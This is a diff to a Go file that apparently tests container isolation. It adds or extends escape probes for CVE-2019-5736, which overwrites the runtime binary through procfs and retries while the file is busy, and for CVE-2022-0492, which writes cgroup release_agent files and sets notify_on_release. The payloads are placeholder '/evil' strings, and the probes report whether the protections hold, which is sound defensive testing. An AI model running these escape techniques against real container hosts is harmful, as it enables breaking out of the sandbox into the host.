@@ -78,8 +78,9 @@ var Commands = map[string]func(args []string){
 }
 
 // attackOverwrite is CVE-2019-5736: it looks for a process that is not made of
-// this program, opens its executable through procfs and tries to write to it.
-func attackOverwrite([]string) {
+// this program, opens its executable through procfs and tries to write to it, with
+// an argument until the process has ended: nobody writes to what is executed.
+func attackOverwrite(args []string) {
 	defer fmt.Println("done")
 	var self, st unix.Stat_t
 	_ = unix.Stat("/proc/self/exe", &self)
@@ -96,20 +97,36 @@ func attackOverwrite([]string) {
 			}
 			if unix.Fstat(fd, &st) == nil && (st.Ino != self.Ino || st.Dev != self.Dev) {
 				fmt.Println("found an executable")
-				name := fmt.Sprintf("/proc/self/fd/%d", fd)
-				for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_TRUNC} {
-					w, err := unix.Open(name, flags, 0)
-					if err == nil {
-						_, err = unix.Write(w, []byte("#!/evil"))
-					}
-					fmt.Println("overwrite:", err)
-				}
+				overwrite(fmt.Sprintf("/proc/self/fd/%d", fd), len(args) > 0)
 				return
 			}
 			_ = unix.Close(fd)
 		}
 	}
 	fmt.Println("found nothing")
+}
+
+// overwrite tries to write to an executable, and says whether anybody could: it is
+// sealed memory, or on a mount that is read-only.
+func overwrite(name string, wait bool) {
+	fixed := false
+	if r, err := unix.Open(name, unix.O_RDONLY, 0); err == nil {
+		var fs unix.Statfs_t
+		seals, err := unix.FcntlInt(uintptr(r), unix.F_GET_SEALS, 0)
+		fixed = err == nil && seals&unix.F_SEAL_WRITE != 0 || unix.Fstatfs(r, &fs) == nil && fs.Flags&unix.ST_RDONLY != 0
+	}
+	fmt.Println("fixed:", fixed)
+	for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_TRUNC} {
+		w, err := unix.Open(name, flags, 0)
+		for end := time.Now().Add(20 * time.Second); wait && err == unix.ETXTBSY && time.Now().Before(end); {
+			time.Sleep(time.Millisecond)
+			w, err = unix.Open(name, flags, 0)
+		}
+		if err == nil {
+			_, err = unix.Write(w, []byte("#!/evil"))
+		}
+		fmt.Println("overwrite:", err)
+	}
 }
 
 // attackDescriptors lists the open descriptors and where they lead.
@@ -142,11 +159,19 @@ func attackAbstract(args []string) {
 }
 
 // attackReleaseAgent is CVE-2022-0492: it writes to every release_agent there
-// is, then makes namespaces of its own and mounts the v1 hierarchies once more.
+// is, makes a group of v1 that is to call it, then makes namespaces of its own and mounts the v1 hierarchies once more.
 func attackReleaseAgent(args []string) {
 	agents, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
 	for _, a := range append(agents, "/sys/fs/cgroup/release_agent") {
 		fmt.Println("write:", os.WriteFile(a, []byte("/evil"), 0))
+	}
+	hierarchies, _ := filepath.Glob("/sys/fs/cgroup/*")
+	for _, dir := range hierarchies {
+		var fs unix.Statfs_t
+		if unix.Statfs(dir, &fs) == nil && fs.Type == unix.CGROUP_SUPER_MAGIC {
+			fmt.Println("group:", os.Mkdir(dir+"/evil", 0o755))
+			fmt.Println("notify:", os.WriteFile(dir+"/notify_on_release", []byte("1"), 0))
+		}
 	}
 	if len(args) == 0 {
 		cmd := exec.Command("/proc/self/exe", "releaseagent", "inner")
